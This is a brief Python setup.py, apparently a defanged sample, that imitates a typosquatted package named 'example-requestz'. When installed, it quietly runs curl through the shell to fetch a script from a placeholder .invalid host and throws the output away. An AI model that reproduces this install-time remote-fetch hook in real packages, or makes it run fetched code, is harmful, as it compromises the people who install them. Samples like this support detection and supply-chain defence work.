# defanged: URL under .invalid, output discarded
import subprocess
from setuptools import setup

subprocess.call("curl -s https://cdn.example.invalid/a.sh -o /dev/null", shell=True)
setup(name="example-requestz", version="1.0.0")
